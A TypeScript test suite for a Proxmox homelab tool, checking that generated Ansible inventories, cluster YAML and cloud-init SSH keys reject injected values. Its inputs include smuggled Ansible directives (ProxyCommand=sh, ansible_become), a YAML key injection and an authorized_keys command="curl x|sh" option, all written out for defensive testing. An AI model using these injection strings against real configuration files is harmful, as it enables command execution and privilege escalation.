// Issue 12 item 5: what the lab reports (guest agents, node names) never becomes an Ansible directive,
// a YAML key or an authorized_keys option in the files Homelab writes.
import * as assert from 'node:assert/strict';
import { ansibleInventory, clusterYaml, GeneratedValueError, type ClusterRecord } from '../../../src/providers/cluster/inventory';
import { guestAddress } from '../../../src/providers/proxmox/guest-agent';
import { encodeSshKeys } from '../../../src/providers/proxmox/cloud-init';

const record = (over: Partial<ClusterRecord> = {}, vm: Partial<ClusterRecord['vms'][number]> = {}): ClusterRecord => ({
  name: 'k3s', tag: 'homelab-cluster-k3s', template: { vmid: 9000, name: 'nixos-template' }, proxmoxCluster: 'lab', sshUser: 'ops',
  createdAt: '2026-01-02T03:04:05.000Z', vms: [{ vmid: 200, name: 'k3s-cp-1', node: 'pve1', role: 'control-plane', ip: '10.0.0.5', ...vm }], ...over,
});
const INJECT = '10.0.0.5 ansible_ssh_common_args=-oProxyCommand=sh\n[evil]';

describe('generated files cannot be injected', () => {
  it('a guest agent address that is not an IP address is not used', () => {
    const iface = (ip: string, type: 'ipv4' | 'ipv6' = 'ipv4') => [{ name: 'eth0', 'ip-addresses': [{ 'ip-address': ip, 'ip-address-type': type, prefix: 24 }] }];
    assert.equal(guestAddress(iface(INJECT)), undefined);
    assert.equal(guestAddress(iface('10.0.0.5\n')), undefined);
    assert.equal(guestAddress(iface('fd00::5 x', 'ipv6')), undefined);
    assert.equal(guestAddress(iface('10.0.0.5', 'ipv6')), undefined, 'the family must match');
    assert.equal(guestAddress([...iface(INJECT), ...iface('10.0.0.6')]), '10.0.0.6');
    assert.equal(guestAddress(iface('fd00::5', 'ipv6')), 'fd00::5');
  });

  it('the inventory refuses a value that would add an Ansible variable, comment or host', () => {
    assert.throws(() => ansibleInventory(record({}, { ip: INJECT })), GeneratedValueError);
    assert.throws(() => ansibleInventory(record({}, { node: 'pve1 ansible_become=true' })), GeneratedValueError);
    assert.throws(() => ansibleInventory(record({}, { name: 'x\n[all:vars]' })), GeneratedValueError);
    assert.throws(() => ansibleInventory(record({ sshUser: 'ops\nansible_password=x' })), GeneratedValueError);
    assert.throws(() => ansibleInventory(record({ name: 'k3s]\n[x' })), /cluster name/);
    assert.match(ansibleInventory(record()), /^k3s-cp-1 ansible_host=10\.0\.0\.5 proxmox_vmid=200 proxmox_node=pve1$/m);
  });

  it('the cluster file quotes what YAML would read as something else and refuses a bad IP', () => {
    assert.throws(() => clusterYaml(record({}, { ip: INJECT })), GeneratedValueError);
    const y = clusterYaml(record({ template: { vmid: 9000, name: 'x\nsshUser: root' }, proxmoxCluster: 'true' }, { node: 'null' }));
    assert.match(y, /^  name: "x\\nsshUser: root"$/m);
    assert.doesNotMatch(y, /^sshUser: root$/m);
    assert.match(y, /^proxmoxCluster: "true"$/m);
    assert.match(y, /proxmoxNode: "null"/);
    assert.match(clusterYaml(record()), /^    ip: 10\.0\.0\.5$/m, 'an address stays plain (deploy reads it back)');
  });

  it('cloud-init sshkeys takes plain public key lines only', () => {
    const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG0 me@host';
    assert.throws(() => encodeSshKeys([`command="curl x|sh" ${key}`]), /not an SSH public key line/);
    assert.throws(() => encodeSshKeys([`${key}\nfrom="*" ${key}`]), /not an SSH public key line/);
    assert.throws(() => encodeSshKeys(['-----BEGIN OPENSSH PRIVATE KEY-----']), /not an SSH public key line/);
    assert.ok(encodeSshKeys([key]).startsWith('ssh-ed25519%20'));
  });
});
